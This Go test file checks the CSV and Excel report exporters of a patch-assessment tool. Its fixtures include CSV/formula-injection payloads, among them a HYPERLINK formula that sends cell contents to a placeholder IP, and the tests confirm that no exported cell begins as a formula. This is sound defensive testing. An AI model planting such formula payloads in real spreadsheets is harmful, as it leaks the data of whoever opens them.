package report

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/oldguard/oldguard/internal/assess"
)

// formulas are host names that a spreadsheet would run.
var formulas = []string{
	`=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＠1", "\n=1",
}

func runnable(tb testing.TB) (list []*assess.Assessment) {
	for _, name := range formulas {
		list = append(list, made(tb, name, "2026-02-01", 4474419, 5050682, 5073697))
	}
	return list
}

func readCSV(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	body, ok := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Error("the mark of UTF-8 is missing")
	}
	if n := bytes.Count(body, []byte("\n")); n != bytes.Count(body, []byte("\r\n")) {
		t.Error("a line does not end in CR LF")
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, cell := range row {
			m[rows[0][i]] = cell
		}
		out = append(out, m)
	}
	return out
}

func TestCSV(t *testing.T) {
	a := made(t, "FS01", "2026-02-01")
	rows := readCSV(t, written(t, "csv", Options{}, a, made(t, "FS02", "2026-02-01", 4474419, 5050682, 5073697)))
	if len(rows) != 2 {
		t.Fatalf("%d rows, want 2", len(rows))
	}
	got := map[string]string{}
	for _, k := range []string{"name", "build", "revision_inferred", "affected", "missing", "newest", "as_of", "level"} {
		got[k] = rows[0][k]
	}
	want := map[string]string{
		"name": "FS01", "build": "6.0.6002", "revision_inferred": "no", "affected": strconv.Itoa(a.Summary.Affected),
		"missing": "KB4474419 KB5050682 KB5073697", "newest": "", "as_of": "2026-02-01", "level": "bad",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if n := len(readCSV(t, written(t, "csv-findings", Options{}, a))); n != len(Open.of(a)) {
		t.Errorf("%d findings, want %d", n, len(Open.of(a)))
	}
}

// TestCSVRunsNothing: no cell begins as a formula does.
func TestCSVRunsNothing(t *testing.T) {
	for _, format := range []string{"csv", "csv-findings"} {
		rows := readCSV(t, written(t, format, Options{}, runnable(t)...))
		if len(rows) < len(formulas) {
			t.Fatalf("%d rows", len(rows))
		}
		for _, row := range rows {
			for head, cell := range row {
				if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
					t.Errorf("%s: %s begins with %q", format, head, cell)
				}
			}
		}
	}
}

func TestXLSX(t *testing.T) {
	a := made(t, "FS01", "2026-02-01")
	list := []*assess.Assessment{runnable(t)[0], a}
	b := written(t, "xlsx", Options{}, list...)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if d := cmp.Diff([]string{"Hosts", "Missing", "Findings", "Undecided", "Gaps", "Sources"}, f.GetSheetList()); d != "" {
		t.Errorf("sheets (-want +got):\n%s", d)
	}
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) < 2 && name != "Gaps" {
			t.Errorf("%s has %d rows", name, len(rows))
		}
		panes, err := f.GetPanes(name)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: panes %+v, %v", name, panes, err)
		}
		tables, err := f.GetTables(name)
		if err != nil || len(rows) > 1 && len(tables) != 1 {
			t.Errorf("%s: filters %v, %v", name, tables, err)
		}
		for r := range rows {
			for c := range rows[r] {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if text, err := f.GetCellFormula(name, cell); err != nil || text != "" {
					t.Errorf("%s!%s is the formula %q, %v", name, cell, text, err)
				}
			}
			if r > 20 {
				break
			}
		}
	}
	hosts, _ := f.GetRows("Hosts")
	if got := hosts[1][0]; got != formulas[0] {
		t.Errorf("name %q, want %q", got, formulas[0])
	}
	findings, _ := f.GetRows("Findings")
	want := 1
	for _, x := range list {
		want += len(Open.of(x))
	}
	if len(findings) != want {
		t.Errorf("%d rows of findings, want %d", len(findings), want)
	}
}

// TestXLSXFull: a full sheet says what is not in it.
func TestXLSXFull(t *testing.T) {
	w := openXLSX(&bytes.Buffer{}, Options{}).(*book)
	if err := w.begin(); err != nil {
		t.Fatal(err)
	}
	s := w.open[0]
	s.rows = sheetRows - 3
	row := []any{"a"}
	if err := s.add([][]any{row, row, row, row}); err != nil {
		t.Fatal(err)
	}
	if err := s.add([][]any{row}); err != nil {
		t.Fatal(err)
	}
	if s.rows != sheetRows-1 || s.left != 3 {
		t.Errorf("%d rows, %d left out", s.rows, s.left)
	}
	if err := s.close(); err != nil {
		t.Error(err)
	}
}

// TestTablesHaveHeads: no head of a table stands twice, which Excel would repair.
func TestTablesHaveHeads(t *testing.T) {
	for _, s := range append(sheets(Open), bookSources) {
		seen := map[any]bool{}
		for _, h := range s.heads {
			if seen[h] {
				t.Errorf("%s: %v stands twice", s.name, h)
			}
			seen[h] = true
		}
	}
}
